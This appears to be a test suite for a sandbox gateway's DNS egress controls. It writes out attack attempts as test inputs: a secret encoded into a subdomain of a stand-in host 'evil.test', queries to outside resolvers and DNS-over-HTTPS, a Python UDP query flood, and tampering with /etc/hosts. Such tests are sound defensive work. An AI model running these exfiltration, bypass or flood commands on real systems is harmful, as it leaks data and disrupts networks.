import { expect } from 'vitest'
import { allow, deny, refused, type Row, type Story, like } from '../row.ts'
import { until } from '../world.ts'

const SECRET = '73656372657473656372657473656372'
const nothingThere = /status: NOERROR[^]*ANSWER: 0/
const noSuchName = /status: (NXDOMAIN|REFUSED)/

const leaks = (script: string) => async (corpus: Parameters<Story['run']>[0], attempts: RegExp) => {
  const { main, upstream } = corpus
  await main.permit('RO')
  await main.records()
  upstream.nameServer.asked.length = 0
  const { stdout } = await main.sh(script)
  expect(stdout).toMatch(attempts)
  expect(upstream.nameServer.asked).toEqual([])
  return main.records()
}

export const DNS: readonly (Row | Story)[] = [
  {
    id: 'C02',
    what: 'a secret in a name that is not allowed goes no further than the gateway',
    run: async (corpus) => {
      const records = await leaks(`dig +tries=1 ${SECRET}.evil.test`)(corpus, noSuchName)
      expect(records).toEqual([like(deny('host', 'dns', { asked: `${SECRET}.evil.test` }))])
      // Control: the resolver that was not asked is the gateway's, and is asked for what may pass.
      corpus.upstream.nameServer.names.set('control.cdn.test', 'servfail')
      await corpus.main.sh('ask http://control.cdn.test/')
      await corpus.main.records(1)
      expect(corpus.upstream.nameServer.asked).toContain('A control.cdn.test')
    },
  },
  {
    id: 'C03',
    what: 'an allowed name has addresses and nothing else',
    run: async (corpus) => {
      for (const type of ['TXT', 'MX', 'NULL', 'ANY', 'HTTPS', 'SVCB', 'AAAA'])
        expect(await leaks(`dig +tries=1 ${type} allowed.test`)(corpus, nothingThere)).toEqual([])
      expect(await leaks('dig +tries=1 +short A allowed.test')(corpus, /^10\.\d+\.\d+\.\d+\n$/)).toEqual([])
    },
  },
  {
    id: 'C05',
    what: 'other resolvers: plain, over TCP, over TLS',
    policy: 'RO',
    script: `dig +tries=1 +time=1 @8.8.8.8 evil.test; dig +tcp +tries=1 +time=1 @8.8.8.8 evil.test; opens 8.8.8.8 853; opens 1.1.1.1 443`,
    sees: [/closed\nclosed\n$|closed\nclosed/],
    not: [/status:/, /open/],
    ledger: [],
  },
  {
    id: 'C05',
    what: 'a resolver behind HTTPS is a host like any other',
    policy: 'RO',
    script: `ask -H 'accept: application/dns-json' 'https://cloudflare-dns.com/dns-query?name=evil.test'`,
    sees: [refused(403, 'host')],
    ledger: [deny('host', 'connect', { host: 'cloudflare-dns.com', port: 443, status: 403 })],
  },
  {
    id: 'C06',
    what: "the engine's resolver leads to the gateway at most",
    run: async (corpus) => {
      const script = `dig +tries=1 +time=3 @127.0.0.11 ${SECRET}.evil.test || echo status: REFUSED`
      const records = await leaks(script)(corpus, /status: (NXDOMAIN|REFUSED|SERVFAIL)/)
      expect(records.map(({ verdict, reason }) => `${verdict} ${reason}`)).toEqual(
        Array(records.length).fill('deny host'),
      )
      expect(records.length).toBeLessThanOrEqual(1)
    },
  },
  {
    id: 'C08',
    what: 'a name in mixed case is answered in mixed case',
    policy: 'RO',
    script: 'dig +tries=1 aLLoWed.TeSt; echo "GW $GW"',
    sees: [/;aLLoWed\.TeSt\.\s+IN\s+A/, /ANSWER: 1[^]*?\tA\t(10\.\d+\.\d+\.\d+)[^]*GW \1\n/],
    ledger: [],
  },
  {
    id: 'C09',
    what: 'ten thousand queries in a second are not answered, not all recorded, and hurt nobody else',
    run: async ({ place, main }) => {
      await main.permit('RO')
      await main.records()
      const flooder = await place('RO')
      const send = `s.sendto(b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + b'\\10%08d\\4evil\\4test\\0\\0\\1\\0\\1' % i, a)`
      const flood = flooder.sh(
        `python3 -c "import os,socket,time
a=(os.environ['DRYDOCK_GATEWAY'],53); s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); began=time.time()
for i in range(10000):
    ${send}
print(time.time()-began)"`,
      )
      const during = await main.sh('for i in 1 2 3 4 5; do ask https://allowed.test/during; done')
      const { stdout } = await flood
      expect(Number(stdout)).toBeLessThan(5)
      expect(during.stdout.match(/from upstream/g)).toHaveLength(5)
      expect(await main.records(5)).toHaveLength(5)
      await until(async () => (await flooder.sh('dig +tries=1 +time=1 +short allowed.test')).stdout !== '', 15_000)
      const records = await flooder.records()
      expect(records.some(({ reason }) => reason === 'rate')).toBe(true)
      expect(records.filter(({ reason }) => reason === 'host').length).toBeLessThan(2000)
      expect((await flooder.sh('ask https://allowed.test/after')).stdout).toContain('from upstream')
      await flooder.records(1)
    },
  },
  {
    id: 'C11',
    what: "a sandbox's own hosts file decides nothing for the gateway",
    policy: 'RO',
    user: 'root',
    script: `echo '192.0.2.99 allowed.test' >> /etc/hosts; getent hosts allowed.test
ask https://allowed.test/hosts-file
ask -m 2 --noproxy '*' https://allowed.test/past-the-gateway
grep -v 192.0.2.99 /etc/hosts > /tmp/hosts; cat /tmp/hosts > /etc/hosts`,
    sees: [/192\.0\.2\.99\s+allowed\.test/, /from upstream/, /\[exit (7|28)\]/],
    ledger: [allow('allowed.test', { address: expect.stringMatching(/^203\.0\.113\./) as unknown as string })],
    upstream: ['GET https://allowed.test/hosts-file'],
  },
  {
    id: 'C12',
    what: 'a change of the policy is seen by the next query',
    run: async ({ main }) => {
      await main.permit('RO')
      await main.records()
      const ask = async () => (await main.sh('dig +tries=1 allowed.test')).stdout
      const before = await ask()
      expect(Number(/allowed\.test\.\s+(\d+)\s+IN/.exec(before)?.[1])).toBeLessThanOrEqual(5)
      await main.permit('WILD')
      expect(await ask()).toMatch(noSuchName)
      await main.permit('RO')
      expect(await ask()).toContain('ANSWER: 1')
      expect(await main.records(1)).toEqual([like(deny('host', 'dns', { host: 'allowed.test' }))])
    },
  },
]
